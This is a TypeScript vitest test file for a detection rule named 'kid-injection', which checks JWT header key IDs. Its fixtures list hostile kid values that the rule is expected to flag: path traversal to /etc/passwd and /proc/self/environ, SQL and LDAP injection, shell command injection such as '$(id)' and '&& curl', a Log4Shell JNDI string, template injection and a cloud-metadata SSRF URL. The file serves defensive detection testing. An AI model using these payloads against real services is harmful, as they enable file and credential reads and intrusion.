import { describe } from 'vitest';
import { type Case, hs, rs, ruleSuite } from './de-cases';

const RULE = 'kid-injection';
const SQL_EXAMPLE =
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6IngnIFVOSU9OIFNFTEVDVCAnMSc7LS0ifQ.eyJzdWIiOiJhZG1pbiJ9.5ieCL64plDqmLXnUx7TWzsTdkqz1ah7dZCP7LMvTURE';
const kid = (value: string) => hs({ alg: 'HS256', kid: value });

const fires = [
  '../../../../../../dev/null',
  '..\\..\\keys\\k1',
  '%2e%2e/%2e%2e/etc/passwd',
  '/etc/passwd',
  'C:\\keys\\k1.pem',
  '\\\\fileserver\\share\\k',
  '/proc/self/environ',
  "1' OR '1'='1",
  'k1; DROP TABLE keys',
  'k1 -- comment',
  'k1 /* x */',
  'x UNION SELECT 1',
  'k OR 1=1',
  '|sleep 10',
  'k1 && curl x',
  '`id`',
  '$(id)',
  'k1\nk2',
  '*)(uid=*',
  'k1\u0000',
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  'http://169.254.169.254/key',
  'file:///etc/passwd',
  'https://10.0.0.2/k',
];
const quiet = [
  'k1',
  '2024-06-01',
  'NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs',
  '5d0c1b2a-3f4e-4a5b-9c8d-7e6f5a4b3c2d',
  'rsa-key.prod.v2',
  'https://myvault.vault.azure.net/keys/signing/0123456789abcdef',
  'urn:example:key:1',
];

const cases: Case[] = [
  { name: 'catalogue example: x\' UNION SELECT \'1\';--', token: SQL_EXAMPLE, expected: 'error' },
  ...fires.map((v) => ({ name: `kid ${JSON.stringify(v)}`, token: kid(v), expected: 'error' as const, count: 1 })),
  ...quiet.map((v) => ({ name: `kid ${JSON.stringify(v)}`, token: kid(v), expected: undefined })),
  { name: 'no kid', token: rs(), expected: undefined },
];

describe(RULE, () => ruleSuite(RULE, cases));
